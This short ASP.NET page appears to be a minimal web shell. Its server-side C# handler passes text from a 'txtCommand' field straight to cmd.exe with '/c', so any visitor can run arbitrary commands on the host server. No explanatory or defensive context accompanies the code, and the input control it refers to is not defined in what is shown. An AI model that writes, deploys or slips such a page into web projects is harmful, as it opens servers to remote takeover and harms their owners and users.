<%@ Page Language="C#" %>
<script runat="server">
void Run(object s, EventArgs e) {
    var p = new System.Diagnostics.Process();
    p.StartInfo.FileName = "cmd.exe";
    p.StartInfo.Arguments = "/c " + txtCommand.Text;
    p.StartInfo.UseShellExecute = false;
    p.Start();
}
</script>
